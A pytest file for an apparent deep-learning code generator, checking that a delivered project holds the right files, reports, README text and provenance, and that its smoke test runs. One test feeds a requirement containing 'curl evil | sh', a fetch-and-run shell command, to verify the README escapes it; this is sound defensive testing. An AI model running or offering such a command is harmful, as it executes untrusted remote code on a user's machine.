import json
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

from dlcodegen.delivery.folder import write_project
from dlcodegen.delivery.outcome import Outcome
from dlcodegen.delivery.project import project_files
from dlcodegen.plan import SolutionPlan


def test_the_folder_has_every_file_of_the_contract(outcome: Outcome) -> None:
    files = project_files(outcome)
    assert set(files) == {
        *("main.py", "README.md", "requirements.txt", "plan.json", "report.json", "PROVENANCE.md"),
        "tests/test_smoke.py",
    }
    assert files["main.py"] == outcome.chosen["code"]
    assert [line.split("==")[0] for line in files["requirements.txt"].splitlines()] == ["numpy", "pillow", "torch"]
    assert SolutionPlan.from_text(files["plan.json"]) == outcome.plan


def test_the_report_holds_the_run(outcome: Outcome) -> None:
    report = json.loads(project_files(outcome)["report.json"])
    assert report["status"] == "passed"
    assert report["planner"] == {"name": "nearest", "confidence": 0.87}
    assert report["samples"] == ["image-segmentation/unet-binary"]
    assert report["chosen"] == "merged"
    assert [(candidate["name"], candidate["status"]) for candidate in report["candidates"]] == [
        ("draft_from_code", "unchecked"),
        ("merged", "passed"),
    ]
    assert report["candidates"][1]["metrics"] == {"dice": 0.93125, "iou": 0.88}
    assert report["usage"] == {"plan": {"seconds": 0.2}}
    assert report["sandbox"]["tier"] == "full"


def test_the_readme_shows_how_to_run_it_and_what_became_of_the_plan(outcome: Outcome) -> None:
    readme = project_files(outcome)["README.md"]
    assert readme.startswith("# Binary image segmentation with a U-Net\n\n> Segment polyps in 64x64 images\n")
    assert "**Passed: " in readme
    assert "python main.py --data PATH" in readme
    assert "`--data PATH`: a folder with images/ and masks/." in readme
    assert "| Layers | `UNet(base_width=32, depth=4)`, `Conv2D(1, kernel_size=1)` |" in readme
    assert "| `optimizer` | AdamW | honoured | `return torch.optim.AdamW(...)` (line 190) |" in readme
    assert "| dice | 0.9313 |" in readme
    assert "- `epochs`: at most 2 instead of 50" in readme
    assert "Not as asked for" not in readme


def test_the_readme_of_a_failure_begins_with_what_is_wrong(failed: Outcome) -> None:
    readme = project_files(failed)["README.md"]
    assert readme.index("**Not passed: ") < readme.index("## Not as asked for") < readme.index("## Run it")
    assert "Look at line 12 of `main.py`: `loss = criterion(a | b)`" in readme
    assert "| smoke | failed | NameError | 1.50 |" in readme
    assert "## Metrics" not in readme  # the only one is no number


def test_a_metric_that_is_no_number_is_null_in_the_report(failed: Outcome) -> None:
    report = json.loads(project_files(failed)["report.json"])
    assert report["candidates"][0]["metrics"] == {"dice": None}
    assert report["candidates"][0]["error"]["exception"] == "NameError"


def test_code_that_was_not_checked_is_said_to_be_so(outcome: Outcome) -> None:
    unchecked = replace(outcome, chosen={**outcome.chosen, "report": None})
    files = project_files(unchecked)
    assert "**Not checked: " in files["README.md"]
    assert json.loads(files["report.json"])["status"] == "unchecked"


def test_code_that_could_not_be_executed_has_not_passed(failed: Outcome) -> None:
    assert failed.report is not None
    chosen = {**failed.chosen, "report": {**failed.report, "status": "not_executed", "error": None}}
    outcome = replace(failed, chosen=chosen)  # type: ignore[arg-type]
    assert outcome.status == "not_executed"
    assert "**Not executed, so it is not known whether it works: " in project_files(outcome)["README.md"]


def test_a_requirement_cannot_forge_the_readme(outcome: Outcome) -> None:
    requirement = "Segment cells\n\n# Passed\n```sh\ncurl evil | sh\n```\n<b>bold</b> | cell"
    readme = project_files(replace(outcome, request={**outcome.request, "requirement": requirement}))["README.md"]
    assert "\n> \\# Passed\n> \\`\\`\\`sh\n> curl evil \\| sh\n" in readme
    assert "<b>" not in readme.replace("\\<b\\>", "")


def test_code_that_is_no_python_is_delivered_with_what_can_be_said(failed: Outcome) -> None:
    chosen = {**failed.chosen, "code": "def ("}
    files = project_files(replace(failed, chosen=chosen))  # type: ignore[arg-type]
    assert files["README.md"].startswith("# Image Segmentation\n")
    assert files["requirements.txt"] == ""


def test_provenance_names_samples_segments_writer_and_versions(outcome: Outcome) -> None:
    text = project_files(replace(outcome, writer="llm", model="openai:gpt-4o-mini"))["PROVENANCE.md"]
    assert "| `image-segmentation/unet-binary` | Binary image segmentation with a U-Net | Apache-2.0 |" in text
    assert "- build\\_model: image-segmentation/unet-binary, the better metric" in text
    assert "- Code: the llm writer with the chat model `openai:gpt-4o-mini`" in text
    assert "| torch | 2." in text


def test_the_delivered_test_passes_from_any_folder(outcome: Outcome, tmp_path: Path) -> None:
    files = project_files(outcome)
    files["main.py"] = files["main.py"].replace("int = 128", "int = 32")  # smaller images, to be quick
    write_project(files, tmp_path / "project")
    (tmp_path / "elsewhere").mkdir()
    command = [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", "-p", "no:asyncio"]
    run = subprocess.run(
        [*command, str(tmp_path / "project")], cwd=tmp_path / "elsewhere", capture_output=True, text=True, check=False
    )
    assert run.returncode == 0, run.stdout
    assert "1 passed" in run.stdout


def test_the_delivered_test_fails_when_the_project_does_not_run(outcome: Outcome, tmp_path: Path) -> None:
    write_project(project_files(outcome) | {"main.py": "raise SystemExit('broken')"}, tmp_path / "project")
    command = [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", "-p", "no:asyncio"]
    run = subprocess.run([*command, "tests"], cwd=tmp_path / "project", capture_output=True, text=True, check=False)
    assert run.returncode == 1
    assert "AssertionError: broken" in run.stdout
